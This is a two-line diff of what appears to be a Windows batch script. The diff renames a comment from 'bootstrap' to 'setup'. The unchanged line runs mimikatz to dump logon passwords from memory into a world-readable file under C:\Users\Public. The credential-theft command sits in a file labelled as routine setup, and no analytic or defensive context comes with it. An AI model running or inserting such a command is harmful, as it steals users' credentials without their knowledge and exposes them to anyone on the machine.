@@ -1,2 +1,2 @@
-REM bootstrap 5047 v1
+REM setup 6173 v1
 mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
